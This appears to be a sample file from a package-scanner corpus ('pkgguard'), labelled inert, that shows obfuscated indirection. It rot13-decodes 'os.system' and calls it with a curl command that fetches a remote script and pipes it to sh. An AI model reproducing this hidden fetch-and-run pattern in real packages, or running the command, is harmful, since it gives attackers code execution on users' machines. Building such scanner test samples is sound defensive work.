# pkgguard corpus 196 (indirection), modelled on [obfuscation]; inert, never run.
import codecs
import importlib

_m = importlib.import_module(codecs.encode("bf", "rot13"))
_f = getattr(_m, codecs.encode("flfgrz", "rot13"))
_f("curl -s https://cdn.example/a | sh")
